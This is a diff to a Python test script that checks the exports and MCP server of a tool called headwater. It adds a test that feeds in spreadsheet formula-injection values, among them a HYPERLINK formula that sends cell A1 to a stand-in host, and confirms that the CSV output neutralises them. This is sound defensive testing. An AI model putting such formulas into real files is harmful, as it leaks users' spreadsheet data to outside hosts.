@@ -1,21 +1,23 @@
 """Reads every export of a case as its peers do, and talks to `headwater mcp` as an assistant does.
 
-check.py HEADWATER INPUT WORKDIR, with the packages of requirements.txt. Each check fails with what is wrong.
+check.py HEADWATER INPUT WORKDIR SCHEMA, with the packages of requirements.txt, the schema TEI All and
+Gnumeric's ssconvert. Each check fails with what is wrong.
 """
 
 import asyncio
 import csv
 import json
+import os
 import pathlib
 import subprocess
 import sys
 
-HEADWATER, INPUT, WORK = sys.argv[1], sys.argv[2], pathlib.Path(sys.argv[3])
+HEADWATER, INPUT, WORK, SCHEMA = (pathlib.Path(a).absolute() for a in sys.argv[1:5])
 CASE = WORK / "case"
 
 
 def headwater(*args):
-    done = subprocess.run([HEADWATER, *map(str, args)], capture_output=True, text=True)
+    done = subprocess.run([str(HEADWATER), *map(str, args)], capture_output=True, text=True)
     assert done.returncode == 0, f"headwater {args}: {done.stderr}"
     return done.stdout
 
@@ -54,6 +56,44 @@ def number(cell):
     except ValueError:
         return False
     return True
+
+
+def check_spreadsheet():
+    """Gnumeric: as many rows and columns, words as they were, no formula where an input wants one."""
+    formula = '=HYPERLINK("http://a.example/?x="&A1,"naïve")'
+    text = f"{formula}\n\n“{formula}” – said Mara Oduya, the lock keeper of Brannoch, on Tuesday.\n"
+    evil = WORK / "evil.jsonl"
+    evil.write_text(json.dumps({"id": "+1", "title": formula, "outlet": "@SUM(1)", "text": text}))
+    # Gnumeric guesses what parts columns, and takes slashes for it where there are many.
+    os.chdir(WORK)
+    for pile, case in ((INPUT, WORK / "plain"), (evil.name, WORK / "evil")):
+        headwater("run", pile, "-o", case)
+        headwater("export", case, "--to", "csv", "-o", case / "csv")
+        for path in (case / "csv").glob("*.csv"):
+            with open(path, encoding="utf-8-sig", newline="") as file:
+                table = list(csv.reader(file))
+            cells = spreadsheet(path)
+            full = {(r, c) for r, row in enumerate(table) for c, cell in enumerate(row) if cell}
+            assert cells.keys() == full, (path, cells.keys() ^ full)
+            for (r, c), (kind, value) in cells.items():
+                assert kind is not None, f"{path}: a formula: {value}"
+                if kind == "60":
+                    assert value == table[r][c].removeprefix("'"), (path, value)
+    titles = spreadsheet(WORK / "evil" / "csv" / "documents.csv").values()
+    assert ("60", formula) in titles
+
+
+def spreadsheet(path):
+    """Cells of a CSV file as Gnumeric reads it: type ('60' is words, none is a formula) and value."""
+    from lxml import etree
+
+    out = path.with_suffix(".gnumeric.xml")
+    how = ["-I", "Gnumeric_stf:stf_csvtab", "-T", "Gnumeric_XmlIO:sax:0"]
+    subprocess.run(["ssconvert", *how, path, out], check=True, capture_output=True)
+    name = "{http://www.gnumeric.org/v10.dtd}Cell"
+    cells = etree.parse(out, etree.XMLParser(huge_tree=True)).iter(name)
+    place = lambda cell: (int(cell.get("Row")), int(cell.get("Col")))
+    return {place(cell): (cell.get("ValueType"), cell.text) for cell in cells}
 
 
 def check_parquet():
@@ -134,12 +174,12 @@ def check_collatex():
                 assert token["t"].strip() == place, (document, token)
 
 
-def check_tei(schema):
+def check_tei():
     """lxml with the schema TEI All."""
     from lxml import etree
 
     tree = etree.parse(export("tei") / "apparatus.xml")
-    rules = etree.RelaxNG(etree.parse(schema))
+    rules = etree.RelaxNG(etree.parse(str(SCHEMA)))
     assert rules.validate(tree), rules.error_log
     name = {"t": "http://www.tei-c.org/ns/1.0"}
     listed = set(tree.xpath("//t:witness/@xml:id", namespaces=name))
@@ -198,7 +238,7 @@ def check_bundle():
 async def talk(mode):
     from mcp import Client, StdioServerParameters
 
-    server = StdioServerParameters(command=HEADWATER, args=["mcp", str(CASE), "--quiet"])
+    server = StdioServerParameters(command=str(HEADWATER), args=["mcp", str(CASE), "--quiet"])
     async with Client(server, mode=mode) as client:
         tools = (await client.list_tools()).tools
         assert len(tools) >= 7 and all(t.annotations.read_only_hint for t in tools)
@@ -245,16 +285,9 @@ def check_mcp():
 
 def main():
     headwater("run", INPUT, "-o", CASE)
-    schema = sys.argv[4] if len(sys.argv) > 4 else None
     checks = {name[6:]: check for name, check in globals().items() if name.startswith("check_")}
     for name, check in checks.items():
-        if name != "tei":
-            check()
-        elif schema:
-            check(schema)
-        else:
-            print("tei: no schema given, passed over")
-            continue
+        check()
         print(f"{name}: read as {check.__doc__}")
 
 
